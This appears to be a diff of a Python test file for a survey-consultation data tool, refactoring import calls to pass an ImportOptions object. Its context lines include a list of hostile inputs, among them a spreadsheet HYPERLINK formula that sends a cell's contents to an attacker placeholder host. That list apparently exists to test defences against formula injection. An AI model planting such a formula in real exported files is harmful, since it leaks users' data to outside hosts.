@@ -23,7 +23,7 @@ from engage.exports import (
     write_rows,
 )
 from engage.offices import export_bundle
-from engage.services.imports import import_file
+from engage.services.imports import ImportOptions, import_file
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -141,7 +141,9 @@ def typed(tmp_path):
         '"Smith Plumbing, call 705-555-0188",Marie Tremblay helped me a lot\n',
         encoding="utf-8",
     )
-    import_file(db, survey, consultation["id"], overrides={"Organisation": "partner"})
+    import_file(
+        db, survey, consultation["id"], ImportOptions(overrides={"Organisation": "partner"})
+    )
     yield {"db": db, "consultation": consultation["id"], "partner": partner}
     db.close()
 
